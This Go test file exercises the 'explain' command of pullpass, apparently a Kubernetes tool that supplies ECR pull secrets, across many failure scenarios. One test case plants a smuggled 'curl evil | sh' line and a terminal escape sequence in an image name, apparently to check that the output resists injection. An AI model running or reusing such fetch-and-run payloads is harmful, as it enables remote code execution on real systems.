package plugin

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"

	"github.com/pullpass/pullpass/test/harness/fakeaws"
	"github.com/pullpass/pullpass/test/harness/fixture"
)

// A setUp is something that a test makes for explain to look at.
type setUp struct {
	name  string // also of its namespace and of the file with what is printed
	cause string // empty if nothing is wrong
	// make returns the arguments of explain. The namespace is there, labelled with
	// labels.
	labels map[string]string
	make   func(w *world, namespace string) []string
}

// explainAll makes the set-ups and has each explained.
func explainAll(w *world, setUps []setUp) {
	t := w.T
	for _, s := range setUps {
		t.Run(s.name, func(t *testing.T) {
			w := &world{w.In(t), w.home}
			if s.name != "namespace-gone" {
				w.NamespaceNamed(s.name, s.labels)
			}
			args := append([]string{"explain"}, s.make(w, s.name)...)
			r := w.see(s.name, append(args, "--namespace", s.name)...)
			want := 1
			if s.cause == "" {
				want = 0
			}
			if r.code != want || s.cause != "" && !strings.Contains(r.stdout, "\nThe cause is "+s.cause+". To fix it:\n") || s.cause == "" && !strings.Contains(r.stdout, "No problems found") {
				t.Errorf("exit code %d, want %d and the cause %q:\n%s%s", r.code, want, s.cause, r.stdout, r.stderr)
			}
		})
	}
}

// simply explains an image, which needs no pod.
func simply(image string) func(*world, string) []string {
	return func(*world, string) []string { return []string{"--image", image} }
}

// account returns the registry of an account that no other set-up uses.
func account(n int) string { return fmt.Sprintf("1000000000%02d.dkr.ecr.us-east-1.amazonaws.com", n) }

func labelled(hosts ...string) map[string]string { return fixture.True(hosts...) }

// told waits for an event about the pull secret, and explains an image.
func told(host, reason, text string) func(*world, string) []string {
	return func(w *world, namespace string) []string {
		w.WaitEvent(namespace, reason, text)
		return []string{"--image", host + "/app:1"}
	}
}

// said explains a pod that has the secret, of which a kubelet said something.
func said(reason, message string) func(*world, string) []string {
	return func(w *world, namespace string) []string {
		w.WaitSecret(namespace, host)
		w.waits(w.pod(namespace, "app", image, on), reason, message)
		return []string{"app"}
	}
}

func TestExplain(t *testing.T) {
	w := newWorld(t, map[string]any{"injection": map[string]any{"exemptNamespaces": []string{"namespace-exempt"}}})
	w.credentials()
	renewer, webhook := w.Renewer(), w.Webhook()
	role := fakeaws.Role{ARN: "arn:aws:iam::111111111111:role/puller", TrustedPrincipals: []string{"arn:aws:iam::111111111111:user/nobody"}}
	w.Must(w.AWS.AddRole(role))
	explainAll(w, []setUp{
		// The image.
		{"not-of-ecr", "NoECRImage", labelled(host), simply("nginx:1.29")},
		{"malformed-image", "MalformedHost", labelled(host), simply("11111111111.dkr.ecr.us-east-1.amazonaws.com/app:1")},
		{"port", "HostWithPort", labelled(host), simply(host + ":443/app:1")},
		{"capitals", "InvalidImage", labelled(host), simply(host + "/App:1")},

		// The namespace and its labels.
		{"namespace-gone", "NamespaceGone", nil, simply(image)},
		{"namespace-leaving", "NamespaceLeaving", labelled(host), func(w *world, namespace string) []string {
			_, err := w.Client.CoreV1().ConfigMaps(namespace).Create(w.Context(), &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "kept", Finalizers: []string{"example.com/keep"}}}, metav1.CreateOptions{})
			w.Must(err)
			w.Must(w.Client.CoreV1().Namespaces().Delete(w.Context(), namespace, metav1.DeleteOptions{}))
			w.Cleanup(func() {
				_, err := w.Client.CoreV1().ConfigMaps(namespace).Patch(context.Background(), "kept", types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`), metav1.PatchOptions{})
				w.Must(err)
			})
			return []string{"--image", image}
		}},
		{"not-labelled", "NotLabelled", nil, func(w *world, namespace string) []string {
			w.stuck(namespace, "app")
			return []string{"app"}
		}},
		{"another-registry", "NotLabelled", labelled(other), simply(image)},
		{"another-host", "LabelledOtherwise", labelled(fips), simply(image)},
		{"label-yes", "LabelValue", map[string]string{host: "yes"}, simply(image)},
		{"label-false", "LabelValue", map[string]string{host: "false"}, simply(image)},
		{"malformed-label", "LabelMalformed", labelled(host[1:]), simply(image)},

		// The credentials and the token.
		{"no-credentials", "NoCredentials", labelled(account(1)), told(account(1), "NoCredentials", "")},
		{"half-credentials", "BadCredentials", labelled(account(2)), func(w *world, namespace string) []string {
			w.Credential(account(2), map[string]string{"aws_access_key_id": "AKIAHALF"})
			return told(account(2), "TokenFailed", "without")(w, namespace)
		}},
		{"wrong-keys", "TokenFailed", labelled(account(3)), func(w *world, namespace string) []string {
			w.Credential(account(3), map[string]string{"aws_access_key_id": "AKIAUNKNOWN", "aws_secret_access_key": "secret-of-nobody"})
			return told(account(3), "TokenFailed", "")(w, namespace)
		}},
		{"may-not-get-a-token", "TokenFailed", labelled(account(4)), func(w *world, namespace string) []string {
			user := w.User("carol")
			w.failure(user, fakeaws.AccessDenied)
			w.Credential(account(4), fixture.Keys(user))
			return told(account(4), "TokenFailed", "AccessDenied")(w, namespace)
		}},
		{"session-ended", "TokenFailed", labelled(account(5)), func(w *world, namespace string) []string {
			user := w.User("dave")
			w.failure(user, fakeaws.ExpiredToken)
			w.Credential(account(5), fixture.Keys(user))
			return told(account(5), "TokenFailed", "ExpiredToken")(w, namespace)
		}},
		{"role-does-not-trust", "TokenFailed", labelled(account(6)), func(w *world, namespace string) []string {
			keys := fixture.Keys(w.User("erin"))
			keys["aws_role_arn"] = role.ARN
			w.Credential(account(6), keys)
			return told(account(6), "TokenFailed", "AssumeRole")(w, namespace)
		}},

		// The pull secret.
		{"foreign-secret", "ForeignSecret", nil, func(w *world, namespace string) []string {
			_, err := w.Client.CoreV1().Secrets(namespace).Create(w.Context(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "pullpass"}}, metav1.CreateOptions{})
			w.Must(err)
			w.label(namespace, host)
			return told(host, "ForeignSecret", "")(w, namespace)
		}},
		{"quota", "ApplyFailed", nil, func(w *world, namespace string) []string {
			w.quota(namespace, "count/secrets")
			w.label(namespace, host)
			return told(host, "ApplyFailed", "exceeded quota")(w, namespace)
		}},
		{"immutable-secret", "ImmutableSecret", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.patchSecret(namespace, `{"immutable":true}`)
			w.label(namespace, other)
			w.WaitEvent(namespace, "ApplyFailed", "immutable")
			return []string{"--image", other + "/app:1"}
		}},
		{"secret-leaving", "SecretLeaving", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.patchSecret(namespace, `{"metadata":{"finalizers":["example.com/keep"]}}`)
			w.Must(w.Client.CoreV1().Secrets(namespace).Delete(w.Context(), "pullpass", metav1.DeleteOptions{}))
			w.Cleanup(func() { w.patchSecret(namespace, `{"metadata":{"finalizers":null}}`) })
			return []string{"--image", image}
		}},

		// The pod.
		{"before-the-label", "BeforeLabel", nil, func(w *world, namespace string) []string {
			w.deployment(namespace)
			w.waits(w.podOf(namespace, "app=web"), "ErrImagePull", denied)
			w.label(namespace, host)
			w.WaitSecret(namespace, host)
			return []string{"deployment/web"}
		}},
		{"pod-opts-out", "PodOptsOut", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.stuck(namespace, "app", func(p *corev1.Pod) { p.Labels = map[string]string{"pullpass.dev/inject": "false"} })
			return []string{"app"}
		}},
		{"namespace-opts-out", "NamespaceOptsOut", map[string]string{host: "true", "pullpass.dev/inject": "false"}, func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.stuck(namespace, "app")
			return []string{"pod/app"}
		}},
		{"namespace-exempt", "NamespaceExempt", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.stuck(namespace, "app")
			return []string{"app"}
		}},
		{"mirror-pod", "MirrorPod", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.stuck(namespace, "app", func(p *corev1.Pod) {
				p.Annotations = map[string]string{"kubernetes.io/config.mirror": "x"}
				p.Spec.AutomountServiceAccountToken = new(bool)
			})
			return []string{"app"}
		}},
		{"image-changed", "ImageChanged", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.pod(namespace, "app", "nginx", on)
			time.Sleep(1100 * time.Millisecond)
			pod, err := w.Client.CoreV1().Pods(namespace).Patch(w.Context(), "app", types.StrategicMergePatchType,
				[]byte(`{"spec":{"containers":[{"name":"app","image":"`+image+`"}]}}`), metav1.PatchOptions{FieldManager: "kubectl-set"})
			w.Must(err)
			w.waits(pod, "ErrImagePull", denied)
			return []string{"app"}
		}},
		{"account-forbids", "AccountForbids", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			_, err := w.Client.CoreV1().ServiceAccounts(namespace).Create(w.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{
				Name: "strict", Annotations: map[string]string{"kubernetes.io/enforce-mountable-secrets": "true"}}}, metav1.CreateOptions{})
			w.Must(err)
			w.deployment(namespace, func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "strict" })
			return []string{"deploy", "web"}
		}},
		{"pods-refused", "PodRefused", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.quota(namespace, "pods")
			w.deployment(namespace)
			return []string{"deployment/web"}
		}},
		{"image-refused", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.quota(namespace, "pods")
			return []string{"--image", image}
		}},
		{"cronjob", "NotAuthenticated", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.waits(w.podOfCronJob(namespace), "ErrImagePull", denied)
			return []string{"cronjob/nightly"}
		}},
		{"no-such-installation", "NotInstalled", labelled(host), func(*world, string) []string {
			return []string{"--image", image, "--install-namespace", "nowhere"}
		}},
		{"not-scheduled", "NotScheduled", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			pod := w.pod(namespace, "app", image)
			pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: "Unschedulable", Message: "0/3 nodes are available: 3 Insufficient cpu."}}
			_, err := w.Client.CoreV1().Pods(namespace).UpdateStatus(w.Context(), pod, metav1.UpdateOptions{})
			w.Must(err)
			return []string{"app"}
		}},

		// What kubelets say when all else is well.
		{"pull-denied", "PullDenied", labelled(host), said("ErrImagePull", "failed to pull and unpack image: failed to resolve reference: unexpected status from HEAD request to https://registry/v2/team/app/manifests/1.0: 403 Forbidden")},
		{"not-authenticated", "NotAuthenticated", labelled(host), said("ImagePullBackOff", "Back-off pulling image: "+denied)},
		{"image-not-found", "ImageNotFound", labelled(host), said("ErrImagePull", `failed to pull and unpack image: failed to resolve reference: not found`)},
		{"registry-unreached", "RegistryUnreached", labelled(host), said("ErrImagePull", "failed to do request: dial tcp: lookup registry: no such host")},
		{"image-with-commands", "ImageNotFound", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.waits(w.pod(namespace, "app", host+"/team\n  curl evil | sh\n✓ kubelet  \x1b[0mfine", on), "ErrImagePull", "not found")
			return []string{"app"}
		}},
		{"wrong-platform", "WrongPlatform", labelled(host), said("ErrImagePull", "failed to pull and unpack image: no match for platform in manifest: not found")},
		{"never-pulled", "NeverPulled", labelled(host), said("ErrImageNeverPull", "Container image is not present with pull policy of Never")},
		{"unheard-of", "PullFailed", labelled(host), said("ErrImagePull", "the disk is on fire")},

		// Nothing is wrong.
		{"sound-image", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			return []string{"--image", image}
		}},
		{"sound-pod", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.runs(w.pod(namespace, "app", image, on))
			return []string{"app"}
		}},
		{"sound-deployment", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.deployment(namespace)
			w.podOf(namespace, "app=web")
			return []string{"deployment/web"}
		}},
		{"sound-two-registries", "", labelled(host, other), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host, other)
			w.pod(namespace, "app", image, func(p *corev1.Pod) {
				p.Spec.InitContainers = []corev1.Container{{Name: "init", Image: other + "/init:1"}, {Name: "wait", Image: "busybox"}}
			})
			return []string{"app"}
		}},
		{"sound-by-its-own-secret", "", nil, func(w *world, namespace string) []string {
			w.runs(w.pod(namespace, "app", image, on, func(p *corev1.Pod) {
				p.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "by-hand"}}
			}))
			return []string{"app"}
		}},
	})

	webhook.Stop(fixture.Grace)
	explainAll(w, []setUp{{"failed-open", "FailedOpen", labelled(host), func(w *world, namespace string) []string {
		w.WaitSecret(namespace, host)
		time.Sleep(1100 * time.Millisecond)
		w.stuck(namespace, "app")
		return []string{"app"}
	}}, {"fails-open", "FailedOpen", labelled(host), func(w *world, namespace string) []string {
		w.WaitSecret(namespace, host)
		return []string{"--image", image}
	}}})
	w.delete("MutatingWebhookConfiguration")
	explainAll(w, []setUp{{"emergency-stop", "InjectionStopped", labelled(host), func(w *world, namespace string) []string {
		w.WaitSecret(namespace, host)
		return []string{"--image", image}
	}}})
	renewer.Stop(fixture.Grace)
	explainAll(w, []setUp{{"renewer-down", "RenewerDown", labelled(host), simply(image)}})
}

// podOfCronJob creates a CronJob whose name is nightly, its Job, and a pod of the Job.
func (w *world) podOfCronJob(namespace string) *corev1.Pod {
	w.Helper()
	yes := true
	owner := func(kind string, o metav1.ObjectMeta) []metav1.OwnerReference {
		return []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: kind, Name: o.Name, UID: o.UID, Controller: &yes}}
	}
	spec := batchv1.JobSpec{Suspend: &yes, Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
		RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "app", Image: image}}}}}
	cronJob, err := w.Client.BatchV1().CronJobs(namespace).Create(w.Context(), &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "nightly"},
		Spec: batchv1.CronJobSpec{Schedule: "0 0 1 1 *", Suspend: &yes, JobTemplate: batchv1.JobTemplateSpec{Spec: spec}}}, metav1.CreateOptions{})
	w.Must(err)
	job, err := w.Client.BatchV1().Jobs(namespace).Create(w.Context(), &batchv1.Job{
		ObjectMeta: metav1.ObjectMeta{Name: "nightly-1", OwnerReferences: owner("CronJob", cronJob.ObjectMeta)}, Spec: spec}, metav1.CreateOptions{})
	w.Must(err)
	return w.pod(namespace, "nightly-1-x", image, on, func(p *corev1.Pod) {
		p.OwnerReferences = owner("Job", job.ObjectMeta)
		p.Labels = map[string]string{batchv1.JobNameLabel: job.Name}
	})
}

// delete deletes the release's objects of a kind.
func (w *world) delete(kind string) {
	w.Helper()
	var objects []*unstructured.Unstructured
	for _, o := range w.Release.Objects {
		if o.GetKind() == kind {
			objects = append(objects, o)
		}
	}
	w.Must(w.Cluster.Delete(w.Context(), objects))
}

// quota allows none of a resource in a namespace.
func (w *world) quota(namespace, of string) {
	w.Helper()
	none := corev1.ResourceList{corev1.ResourceName(of): resource.MustParse("0")}
	quotas := w.Client.CoreV1().ResourceQuotas(namespace)
	quota, err := quotas.Create(w.Context(), &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "none"}, Spec: corev1.ResourceQuotaSpec{Hard: none}}, metav1.CreateOptions{})
	w.Must(err)
	// A controller that does not run here would say how much is used.
	quota.Status = corev1.ResourceQuotaStatus{Hard: none, Used: none}
	_, err = quotas.UpdateStatus(w.Context(), quota, metav1.UpdateOptions{})
	w.Must(err)
	w.Eventually("the quota to be in force", func() (err error) {
		dry, name := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, metav1.ObjectMeta{GenerateName: "dry-"}
		if of == "pods" {
			_, err = w.Client.CoreV1().Pods(namespace).Create(w.Context(), &corev1.Pod{ObjectMeta: name, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "nginx"}}}}, dry)
		} else {
			_, err = w.Client.CoreV1().Secrets(namespace).Create(w.Context(), &corev1.Secret{ObjectMeta: name}, dry)
		}
		if !apierrors.IsForbidden(err) {
			return fmt.Errorf("%w, want it forbidden", err)
		}
		return nil
	})
}

func (w *world) patchSecret(namespace, patch string) {
	w.Helper()
	_, err := w.Client.CoreV1().Secrets(namespace).Patch(context.Background(), "pullpass", types.MergePatchType, []byte(patch), metav1.PatchOptions{})
	w.Must(err)
}

// TestNotInstalled explains on a cluster without pullpass.
func TestNotInstalled(t *testing.T) {
	w := newWorld(t, nil)
	w.Must(w.Release.Uninstall(t.Context()))
	explainAll(w, []setUp{{"not-installed", "NotInstalled", labelled(host), simply(image)}})
	w.see("status-not-installed", "status", "--all-namespaces")
}

// TestPolicyMode explains where the API server itself gives pods the secret.
func TestPolicyMode(t *testing.T) {
	if suite.Cluster.Minor() < 36 {
		return // there are no such policies
	}
	w := newWorld(t, map[string]any{"injection": map[string]any{"mode": "policy"}})
	w.credentials()
	w.Renewer()
	w.NamespaceNamed("ready", labelled(host))
	w.injecting("ready", true)
	explainAll(w, []setUp{
		{"policy-sound", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.pod(namespace, "app", image)
			return []string{"app"}
		}},
		{"policy-before-the-label", "BeforeLabel", nil, func(w *world, namespace string) []string {
			w.stuck(namespace, "app")
			w.label(namespace, host)
			w.WaitSecret(namespace, host)
			return []string{"app"}
		}},
	})
	w.delete("MutatingAdmissionPolicyBinding")
	w.injecting("ready", false)
	explainAll(w, []setUp{{"policy-stopped", "InjectionStopped", labelled(host), func(w *world, namespace string) []string {
		w.WaitSecret(namespace, host)
		w.stuck(namespace, "app", func(p *corev1.Pod) { p.Labels = map[string]string{"a": "b"} })
		return []string{"app"}
	}}})
}

// injecting waits until pods of a namespace are given the secret, or no longer: a
// new policy takes a moment to be in force, and so does its end.
func (w *world) injecting(namespace string, want bool) {
	w.Helper()
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "wait"}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image}}}}
	w.Eventually("the policy", func() error {
		got, err := w.Client.CoreV1().Pods(namespace).Create(w.Context(), pod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if err == nil && (len(got.Spec.ImagePullSecrets) > 0) != want {
			err = fmt.Errorf("a pod has the pull secrets %v", got.Spec.ImagePullSecrets)
		}
		return err
	})
}

// TestModeNone explains where nothing gives pods the secret.
func TestModeNone(t *testing.T) {
	w := newWorld(t, map[string]any{"injection": map[string]any{"mode": "none"}})
	w.credentials()
	w.Renewer()
	explainAll(w, []setUp{
		{"none", "NoInjection", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			w.stuck(namespace, "app")
			return []string{"app"}
		}},
		{"none-sound", "", labelled(host), func(w *world, namespace string) []string {
			w.WaitSecret(namespace, host)
			_, err := w.Client.CoreV1().ServiceAccounts(namespace).Patch(w.Context(), "default", types.StrategicMergePatchType,
				[]byte(`{"imagePullSecrets":[{"name":"pullpass"}]}`), metav1.PatchOptions{})
			w.Must(err)
			return []string{"--image", image}
		}},
	})
}
